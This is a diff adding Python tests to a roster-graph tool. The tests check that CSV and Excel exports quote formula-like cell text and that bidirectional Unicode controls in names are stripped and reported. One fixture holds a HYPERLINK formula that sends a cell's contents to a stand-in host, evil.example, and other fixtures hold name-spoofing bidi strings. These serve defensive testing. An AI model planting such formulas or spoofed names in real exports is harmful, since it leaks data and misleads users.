@@ -205,3 +205,125 @@ def test_long_values_are_cut_in_messages(tmp_path: Path) -> None:
     assert "共 66004 字" in hit["message_zh"].iat[0] and "66004 chars" in hit["message_en"].iat[0]
     assert clip("短名") == "短名" and clip("x" * 81).startswith("x" * 80 + "…")
     assert len(str(exc.value)) < 1000
+
+
+# --------------------------------------------------------------------------------------------
+# 公式与伪装字符 / Formulas and spoofing
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此修正")党支部'
+_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_county(tmp_path: Path) -> Path:
+    """A county whose one village branch is named as a live formula, and is paired (so it is in analyses)."""
+    rows = [list(r) for r in ROSTER]
+    rows[3][0] = EVIL  # the weak side of PAIRS[0]
+    pairs = [[PAIRS[0][0], EVIL, *PAIRS[0][2:]], PAIRS[1]]
+    data = tmp_path / "data"
+    data.mkdir()
+    base(data, roster=rows, pairs=pairs)
+    return data
+
+
+def _live_cells(values: list[object]) -> list[str]:
+    """Cell texts a spreadsheet would run as a formula (not plain numbers such as -3)."""
+    out = []
+    for v in values:
+        if isinstance(v, str) and v.startswith(_STARTS):
+            try:
+                float(v)
+            except ValueError:
+                out.append(v)
+    return out
+
+
+def test_no_live_formulas_in_files_for_spreadsheets(tmp_path: Path) -> None:
+    """Finding: a name beginning with = was written raw in the analyze CSVs (BOM'd, opened by Excel), query --format
+    csv, sparql -o *.csv / *.xlsx and the report workbook. Now each such cell starts with ' (text in Excel), in every
+    one of them, while the name is still there and numbers stay numbers."""
+    import openpyxl
+    from click.testing import CliRunner
+
+    from graphkit.cli import cli
+
+    data = _formula_county(tmp_path)
+    out = tmp_path / "out"
+    run = CliRunner().invoke
+    assert run(cli, ["build", str(data), "-o", str(out)]).exit_code == 0
+    r = run(cli, ["analyze", str(out), "-q"])
+    assert r.exit_code == 0, r.output
+    seen = 0
+    for csv_path in sorted((out / "analysis").glob("*.csv")):
+        df = pd.read_csv(csv_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+        cells = df.to_numpy().ravel().tolist()
+        assert _live_cells(cells) == [], csv_path.name
+        seen += sum(1 for c in cells if "'" + EVIL in c)
+    assert seen > 0  # the name did reach the analyses, quoted
+
+    q = tmp_path / "orgs.csv"
+    r = run(cli, ["query", str(out), "MATCH (o:Organization) RETURN o.name AS name, o.members AS members",
+                  "--format", "csv", "-o", str(q)])
+    assert r.exit_code == 0, r.output
+    df = pd.read_csv(q, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert "'" + EVIL in df["name"].tolist() and _live_cells(df.to_numpy().ravel().tolist()) == []
+    r = run(cli, ["query", str(out), "MATCH (o:Organization) RETURN o.name AS name", "--format", "csv"])
+    assert "'" + EVIL in pd.read_csv(io.StringIO(r.output), dtype=str)["name"].tolist()
+
+    for suffix in ("csv", "xlsx"):
+        target = tmp_path / f"sparql.{suffix}"
+        r = run(cli, ["sparql", str(out), "--name", "due_for_rotation", "-p", "as_of=2026-01-01", "-o", str(target)])
+        assert r.exit_code == 0, r.output
+        if suffix == "csv":
+            df = pd.read_csv(target, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+            assert df["weak_name"].tolist() == ["'" + EVIL]
+        else:
+            ws = openpyxl.load_workbook(target).worksheets[0]
+            cells = [c for row in ws.iter_rows() for c in row]
+            assert all(c.data_type != "f" for c in cells)
+            assert "'" + EVIL in [c.value for c in cells]
+    report_xlsx = tmp_path / "report.xlsx"
+    r = run(cli, ["report", str(out), "-o", str(tmp_path / "report.html"), "--xlsx", str(report_xlsx), "-q"])
+    assert r.exit_code == 0, r.output
+    wb = openpyxl.load_workbook(report_xlsx)
+    quoted = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not _live_cells([cell.value]), (ws.title, cell.coordinate)
+                    quoted += cell.value.startswith("'" + EVIL)
+    assert quoted > 0
+
+
+def test_excel_safe_frame_keeps_numbers_numbers() -> None:
+    """-3 in a numeric column stays the number -3; text "-3" stays "-3"; only formula-like text is quoted."""
+    from graphkit.problems import excel_safe_frame
+
+    df = pd.DataFrame({"n": [-3, 4], "f": [-1.5, 2.0], "t": ["-3", "@foo"], "d": pd.to_datetime(["2024-01-01", None])})
+    got = excel_safe_frame(df)
+    assert got["n"].tolist() == [-3, 4] and got["n"].dtype == df["n"].dtype
+    assert got["f"].tolist() == [-1.5, 2.0]
+    assert got["t"].tolist() == ["-3", "'@foo"]
+    assert got["d"].equals(df["d"])
+    assert df["t"].tolist() == ["-3", "@foo"]  # the input is not changed
+
+
+def test_bidi_controls_are_stripped_and_reported(tmp_path: Path) -> None:
+    """Finding: bidirectional controls (U+202E …) passed into names, so a name could display as another. Now they are
+    removed at load like zero-width characters, and each cell that had one is a warning naming file, row, column."""
+    rows = [list(r) for r in ROSTER]
+    rows[3][0] = "红岩村\u202e部支党\u202c"  # row 5: displays as 红岩村党支部 in a bidi-aware view
+    rows[4][6] = "中池镇\u2066党委\u2069"        # row 6, 上级党组织: still resolves
+    base(tmp_path, roster=rows, pairs=[])
+    graph = gk.build_graph(tmp_path)
+    names = graph.tables["Organization"]["name"].tolist()
+    assert "红岩村部支党" in names
+    assert not any(ch in n for n in names for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
+    warn = graph.problems[graph.problems["rule"] == "bidi_control"]
+    assert set(warn["severity"]) == {"warning"}
+    assert sorted(warn[["file", "row", "column"]].itertuples(index=False, name=None)) == [
+        (ROSTER_F, 5, "党组织名称"), (ROSTER_F, 6, "上级党组织")]
+    assert "<U+202E>" in warn.set_index("row").loc[5, "value"]
+    orgs = graph.tables["Organization"].set_index("name")
+    assert orgs.loc["金桥村党总支", "parent"] == orgs.loc["中池镇党委", "id"]
